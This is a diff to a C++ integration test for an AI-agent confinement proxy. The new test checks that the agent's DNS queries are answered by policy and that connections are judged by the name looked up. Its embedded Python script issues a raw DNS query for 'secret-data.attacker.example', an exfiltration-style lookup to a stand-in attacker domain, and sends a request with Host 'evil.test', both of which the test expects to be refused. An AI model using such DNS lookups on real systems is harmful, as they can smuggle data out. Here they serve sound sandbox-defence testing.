@@ -3,6 +3,7 @@
 // openssl s_client) inside the confined agent, against origins in a test host's network
 // namespace (the door refuses loopback destinations), with the real policy and audit log.
 #include <chrono>
+#include <fstream>
 #include <memory>
 #include <string>
 #include <vector>
@@ -105,6 +106,84 @@ TEST_F(RunTransparent, AnAllowedSniSentToADeniedAddressReachesTheAllowedAddressO
   ASSERT_FALSE(entries.empty()) << r.out;
   EXPECT_EQ(entries.front()["verdict"], "allow");
   EXPECT_TRUE(transparent_requests(host_->addr6(), tls).empty());
+}
+
+// Issue 16 point 3: the agent's DNS is answered by the session, by the policy. A raw query
+// to an address nothing answers at (TEST-NET-1) gets its reply as from that address, with a
+// synthetic address for an allowed name and NXDOMAIN for one the policy denies; glibc's
+// resolver (getent) takes the same answers. A connection to the synthetic address is judged
+// as the name looked up, reaches the origin the proxy resolves for that name, and a Host that
+// names another is refused. acp's own /etc/hosts (a private mount) names the origin, so only
+// the proxy can resolve it: the agent's lookups all go to the session's DNS.
+TEST_F(RunTransparent, DnsIsAnsweredByThePolicyAndTheDoorJudgesTheNameLookedUp) {
+  const uint16_t plain = free_port();
+  ASSERT_TRUE(start_origin(plain, host_->addr4()));
+  const auto policy = write_policy("policy.yml",
+                                   "default: deny\nrules:\n"
+                                   "  - match: { kind: http, host: \"allowed.test\" }\n"
+                                   "    action: allow\n"
+                                   "  - match: { kind: http, host: \"*.allowed.test\" }\n"
+                                   "    action: allow\n");
+  const std::string hosts = dir_ + "/hosts";
+  {
+    std::ofstream h(hosts);
+    h << "127.0.0.1 localhost\n::1 localhost\n" << host_->addr4() << " allowed.test\n";
+  }
+  const std::string py =
+      "import socket, struct, sys\n"
+      "def ask(name, qtype=1):\n"
+      "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+      "    s.settimeout(5)\n"
+      "    q = struct.pack('>HHHHHH', 0xabcd, 0x0100, 1, 0, 0, 0)\n"
+      "    q += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0'\n"
+      "    s.sendto(q + struct.pack('>HH', qtype, 1), ('192.0.2.53', 53))\n"
+      "    data, src = s.recvfrom(2048)\n"
+      "    an = struct.unpack('>H', data[6:8])[0]\n"
+      "    ip = socket.inet_ntoa(data[-4:]) if an and qtype == 1 else '-'\n"
+      "    return data[3] & 15, '%s:%d' % src, ip\n"
+      "rc, src, ip = ask('allowed.test')\n"
+      "print('ALLOWED rcode=%d from=%s ip=%s' % (rc, src, ip))\n"
+      "rc, src, _ = ask('secret-data.attacker.example')\n"
+      "print('SECRET rcode=%d from=%s' % (rc, src))\n"
+      "def get(host):\n"
+      "    c = socket.create_connection((ip, int(sys.argv[1])), timeout=20)\n"
+      "    c.sendall(b'GET / HTTP/1.0\\r\\nHost: ' + host.encode() + b'\\r\\n\\r\\n')\n"
+      "    out = b''\n"
+      "    while True:\n"
+      "        b = c.recv(4096)\n"
+      "        if not b: break\n"
+      "        out += b\n"
+      "    return out.decode(errors='replace').replace('\\r\\n', ' ')\n"
+      "print('NAMED ' + get('allowed.test'))\n"
+      "print('OTHER ' + get('evil.test'))\n";
+  const std::string script =
+      "getent ahostsv4 api.allowed.test | head -1 | sed 's/^/GETENT:/'; "
+      "getent hosts denied.example || echo GETENT-NXDOMAIN; "
+      "/usr/bin/python3 -c \"$0\" " +
+      std::to_string(plain);
+  auto cmd = acp_run(policy, {"sh", "-c", script, py}, {"--door=both"});
+  // acp in a mount namespace of its own where /etc/hosts names the origin.
+  std::vector<std::string> wrapped = {"unshare",
+                                      "-m",
+                                      "--propagation",
+                                      "private",
+                                      "sh",
+                                      "-c",
+                                      "mount --bind \"$0\" /etc/hosts && exec \"$@\"",
+                                      hosts};
+  wrapped.insert(wrapped.end(), cmd.begin(), cmd.end());
+  auto r = acp::vmtest::run(wrapped);
+  EXPECT_NE(r.out.find("ALLOWED rcode=0 from=192.0.2.53:53 ip=198.18."), std::string::npos)
+      << r.out;
+  EXPECT_NE(r.out.find("SECRET rcode=3 from=192.0.2.53:53"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("GETENT:198.18."), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("GETENT-NXDOMAIN"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("origin says hello"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("the agent looked up allowed.test"), std::string::npos) << r.out;
+  auto entries = transparent_requests("allowed.test", plain);
+  ASSERT_FALSE(entries.empty()) << r.out;
+  EXPECT_EQ(entries.front()["verdict"], "allow");
+  EXPECT_TRUE(transparent_requests("evil.test", plain).empty());
 }
 
 TEST_F(RunTransparent, LoopbackDestinationsAreRefusedAndAudited) {
